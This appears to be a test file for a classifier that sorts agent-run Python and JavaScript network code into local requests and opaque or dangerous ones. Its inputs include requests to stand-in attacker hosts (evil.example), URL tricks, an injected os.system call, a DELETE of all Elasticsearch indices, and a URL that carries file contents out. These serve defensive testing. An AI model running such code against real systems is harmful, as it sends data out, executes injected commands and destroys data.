import { expect, test } from 'vitest';
import { admit, effects } from './admit.fixture.ts';
import { localRequests } from './code-local.ts';

const read = (text: string, language = 'python') => admit('code', { language, text, cwd: '' });
const owners = (text: string, language = 'python') =>
  read(text, language)
    .action.parts.filter(({ effect }) => effect === 'send' || effect === 'fetch')
    .map((part) => part.externality.destination_ownership);

test.each([
  ['import requests\nr = requests.post("http://localhost:8000/login", json={"u": "a"})\nprint(r.json())'],
  ['import httpx\nprint(httpx.get("http://127.0.0.1:8000/a", params={"q": 1}).text)'],
  [
    'import requests\nBASE = "http://localhost:8000"\ns = requests.Session()\nr = s.post(f"{BASE}/a", data={"u": 1})\nprint(r)',
  ],
  [
    'import requests\nBASE = "http://localhost:8000"\nfor i in range(3): print(requests.get(f"{BASE}/a/{i}").status_code)',
  ],
  [
    'import asyncio, httpx\nasync def main():\n  async with httpx.AsyncClient(base_url="http://127.0.0.1:8000") as c:\n    r = await c.post("/a", json={"u": 1})\n    print(r.status_code)\nasyncio.run(main())',
  ],
])('requests to this machine are told, whatever they carry: %s', (text) => {
  expect(effects(read(text))).not.toContain('run_opaque');
  expect(new Set(owners(text))).toEqual(new Set(['self']));
});

test('and in JavaScript, with the method they have', () => {
  const post = 'fetch("http://localhost:3000/a", { method: "POST", body: "x" }).then((r) => console.log(r.status))';
  expect(effects(read(post, 'node'))).toEqual(['send']);
  expect(owners(post, 'node')).toEqual(['self']);
  const all = 'fetch("http://localhost:9200/_all", { method: "DELETE" })';
  expect(effects(read(all, 'node'))).toContain('database_destroy');
});

test.each([
  ['requests.post("http://localhost.evil.example/a", json={"a": 1})'],
  ['requests.post("http://localhost@evil.example/a", json={"a": 1})'],
  ['requests.post("http://localhost:1/a", json={"a": 1}); requests.get("http://evil.example")'],
  ['requests.post("http://localhost:1/a", json={"a": 1}, proxies={"http": "evil:1"})'],
  ['B = "http://localhost"\nrequests.post(B + ".evil.example/a", json={"a": 1})'],
  ['B = "http://localhost:1"\nB = other\nrequests.post(f"{B}/a", json={"a": 1})'],
  ['requests.get("http://localhost:1")\nrequests.post(url, json={"a": 1})'],
  ['requests.post("http://localhost:1/a", json={"a": __import__("os").system("id")})'],
])('what may go elsewhere is no request to this machine: %s', (text) =>
  expect(effects(read(`import requests\n${text}`))).toContain('run_opaque'),
);

test('what a path is computed of is still read', () => {
  const text = 'B = "http://localhost:1"\nrequests.get(f"{B}/{open(x).read()}")';
  expect(localRequests('python', text)).toContain('(open(x).read())');
});

const page = (address: string, options = '') =>
  `const { chromium } = require("playwright"); (async () => { const b = await chromium.launch(${options}); const p = await b.newPage(); await p.goto(${address}); await p.click("text=Go"); await p.screenshot({ path: "a.png" }); await b.close(); })()`;

test('a browser that is sent to this machine alone is an unknown program', () => {
  expect(effects(read(page('"http://localhost:3000/"'), 'node'))).toContain('run_unknown');
  expect(effects(read(page('"http://localhost:3000/"'), 'node'))).not.toContain('run_opaque');
});

test.each([
  [page('"https://shop.example/"')],
  [page('url')],
  [page('"http://localhost:3000/"').replace('await p.click', 'await p.evaluate(s); await p.click')],
  [page('"http://localhost:3000/"', '{ executablePath: "/tmp/x" }')],
  [`${page('"http://localhost:3000/"')}; require("shop").pay(1)`],
])('and elsewhere, or with another program, it is not: %s', (text) =>
  expect(effects(read(text, 'node'))).toContain('run_opaque'),
);
